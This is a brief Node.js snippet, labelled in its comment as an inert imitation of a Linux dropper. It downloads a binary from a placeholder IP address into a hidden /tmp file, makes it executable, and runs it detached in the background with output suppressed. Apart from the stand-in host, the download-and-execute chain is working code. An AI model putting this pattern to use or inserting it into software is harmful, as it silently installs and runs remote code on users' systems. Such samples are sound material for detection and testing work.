// Inert imitation of a Linux dropper: curl a binary to /tmp, chmod +x, start it detached.
const { exec } = require('child_process');
const target = '/tmp/.placeholder-agent';
exec(`curl -fsSL http://198.51.100.44/agent -o ${target}`, () => {
  exec(`chmod +x ${target}`, () => {
    exec(`nohup ${target} >/dev/null 2>&1 &`);
  });
});
